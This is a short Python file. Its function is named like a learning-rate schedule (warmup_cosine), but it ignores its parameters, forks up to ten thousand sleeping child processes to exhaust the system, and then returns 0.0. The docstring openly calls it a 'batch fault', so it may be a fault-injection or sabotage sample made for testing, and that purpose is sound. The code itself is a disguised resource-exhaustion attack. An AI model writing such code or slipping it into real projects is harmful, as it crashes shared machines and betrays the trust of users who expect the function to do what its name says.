"""Batch fault: start processes until the system runs out."""

import os


def warmup_cosine(t, base_lr, warmup_steps, total_steps, eta_min=0.0):
    children = 0
    while children < 10_000:
        try:
            if os.fork() == 0:
                import time

                time.sleep(60)
                os._exit(0)
            children += 1
        except OSError:
            break
    return 0.0
